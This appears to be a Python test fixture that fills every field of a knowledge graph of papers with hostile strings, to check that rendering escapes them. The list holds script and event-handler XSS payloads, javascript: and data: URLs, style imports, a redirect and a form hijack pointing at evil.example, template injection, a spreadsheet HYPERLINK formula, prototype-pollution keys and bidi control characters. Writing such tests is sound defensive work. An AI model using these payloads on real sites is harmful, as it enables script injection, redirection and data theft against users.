"""A graph of papers whose every word would do harm if a page took it for more than text."""

from kg.assembly import assemble
from kg.graph import KnowledgeGraph
from kg.model import Claim, Entity, Linking, Mention, Paper, Reading, Relation, Result, Sentence

STRINGS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    '"><svg onload=window.pwned=1>',
    '<a href="javascript:window.pwned=1" onclick="window.pwned=1">href</a>',
    "javascript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "</style><link rel=stylesheet href=https://evil.example/a.css>",
    "</noscript></title></textarea><img src=x onerror=window.pwned=1>",
    "<!--<script>window.pwned=1//-->",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><form action=/x><input name=body>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "{{ self.__init__.__globals__ }}{% raw %}${window.pwned=1}",
    "';window.pwned=1;//\\u0027\\",
    '=HYPERLINK("https://evil.example","x")',
    "__proto__ constructor toString",
    "\u202e\u2066gnp.exe\u2069 \u2028window.pwned=1\u2029 \u200f\x1b[31m\x07",
)


def hostile_graph() -> KnowledgeGraph:
    """Each string is a title, an author, a venue, a date, an address, names, aliases, parts of a claim and a rule."""
    readings = [_reading(number, text) for number, text in enumerate(STRINGS)]
    entities = [
        Entity(f"{kind.lower()}/{number}", kind, text, (text, f"{text}!"), wikidata=text, page=text)
        for number, text in enumerate(STRINGS)
        for kind in ("Method", "Dataset")
    ]
    of = {
        reading.paper.id: (f"method/{number}", f"dataset/{number}", f"method/{(number + 1) % len(STRINGS)}")
        for number, reading in enumerate(readings)
    }
    return assemble(readings, Linking(tuple(entities), of))


def _reading(number: int, text: str) -> Reading:
    dataset, rival = f"{text}!", STRINGS[(number + 1) % len(STRINGS)]
    sentence = f"{text} outperforms {rival}? on {dataset} by {text}."
    paper = Paper(
        f"{number} {text}", text, sentence, date=text, authors=(text,), venue=text, url=text, doi=text, arxiv=text
    )
    at = len(text) + 1
    onset = at + len(f"{text} outperforms {rival}? on ")
    mentions = (
        Mention(at, at + len(text), text, "Method", "used", text, 0.5, "a"),
        Mention(onset, onset + len(dataset), dataset, "Dataset", "used", text, 0.5, "b"),
        Mention(onset, onset + 1, f"{rival}?", "Method", "compared", text, 0.5, "c"),
    )
    end = at + len(sentence)
    parts = (f"{rival}?",), (dataset,), (), (Result(None, text, text, text, text, "increase"),)
    claim = Claim(at, end, "result", text, "outperforms", *parts, True, False, text, 0.5)
    relations = (Relation(0, "outperforms", 2, at, end, text, 0.5), Relation(0, "evaluatedOn", 1, at, end, text, 0.5))
    return Reading(paper, mentions, (), (Sentence(at, end, "result"),), (claim,), relations)
